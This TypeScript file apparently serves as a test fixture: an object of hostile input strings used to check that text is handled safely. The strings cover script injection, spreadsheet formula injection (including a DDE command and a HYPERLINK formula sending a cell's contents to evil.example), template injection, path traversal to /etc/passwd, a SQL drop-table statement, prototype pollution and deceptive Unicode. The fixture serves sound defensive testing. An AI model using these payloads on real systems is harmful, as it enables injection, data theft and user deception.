const nested = (depth: number) => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;

/**
 * Texts that a program could take for something else than text, by what they try. Whatever a person can write is shown to
 * hold each of them, in every place where it is read.
 */
export const hostileTexts = {
  script: '<script>window.struck=1</script>',
  'closed attribute': '"><img src=x onerror="window.struck=1">',
  'closed single quote': "'><svg onload='window.struck=1'>",
  'closed style': '</style></textarea></title><style>*{display:none}</style>',
  'closed comment': '--><!-- <b>',
  'script in an address': 'javascript:window.struck=1//',
  'data address': 'data:text/html,<script>window.struck=1</script>',
  'entity written out': '&lt;script&gt;&amp;&#x3c;b&#62;',
  'tag of a page': '<a href="https://evil.example/" target=_top>Approve</a>',
  formula: "=cmd|'/c calc'!A1",
  'formula with plus': '+SUM(1,2)',
  'formula with minus': '-2+3+cmd|x',
  'formula with at': '@SUM(1+1)*cmd|x',
  'formula with link': '=HYPERLINK("https://evil.example/?"&A1,"Open")',
  'handlebars template': '{{constructor.constructor("x")()}} {{title}} {{- agency}}',
  'other templates': '\u0024{7*7} #{7*7} <%= 7*7 %> {%raw%} $t(plan:title) %s %d %n',
  'path of a file': '../../../../etc/passwd\\..\\windows',
  'address of a file': 'file:///etc/passwd',
  statement: '\'; drop table client; -- " /* */',
  'name of a prototype': '__proto__',
  'name of a constructor': 'constructor.prototype.polluted',
  'json of a prototype': '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}',
  'reversed reading': 'plan\u202Efdp.exe\u202C \u2067abc\u2069',
  'marks without width': 'Ka\u200Bd\u200Der\u2060\uFEFF\u00AD',
  'letters that look alike': 'раураl Кader ｆｕｌｌ',
  'many accents': `Z${'\u0301\u0323\u0334'.repeat(20)}algo`,
  'emoji of several signs': '👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 🇳🇱 ⚠️',
  'other scripts': 'مرحبا שלום 你好 ไทย हिन्दी',
  'line and paragraph marks': 'one\u2028two\u2029three',
  'no place to break': 'Onafgebroken'.repeat(10),
  'deep json': nested(20),
  'number beyond numbers': '1e400 NaN -0 Infinity 0x10',
} as const satisfies Readonly<Record<string, string>>;

/** What a text tries, and the text. */
export const hostileEntries = Object.entries(hostileTexts);
